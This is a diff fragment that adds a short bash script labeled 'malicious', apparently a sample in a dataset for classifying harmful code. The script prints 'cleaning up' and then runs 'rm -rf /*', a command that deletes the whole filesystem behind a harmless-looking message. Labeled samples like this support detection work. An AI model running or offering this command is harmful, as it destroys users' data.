@@ -1,0 +1,4 @@
+# label: malicious
+#!/bin/bash
+echo "cleaning up"
+rm -rf /*
